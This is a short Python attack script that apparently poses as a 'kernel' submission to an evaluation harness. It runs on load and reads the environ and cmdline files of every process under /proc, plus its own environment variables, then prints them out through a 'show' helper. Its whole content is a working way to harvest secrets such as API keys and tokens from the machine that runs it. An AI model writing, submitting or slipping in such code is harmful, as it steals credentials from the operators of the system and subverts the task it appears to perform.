from attack import *


def go():
    for name in os.listdir("/proc"):
        if name.isdigit():
            show(read(f"/proc/{name}/environ"))
            show(read(f"/proc/{name}/cmdline"))
    show(repr(dict(os.environ)).encode())


if warming:
    go()
custom_kernel = kernel = once(go)
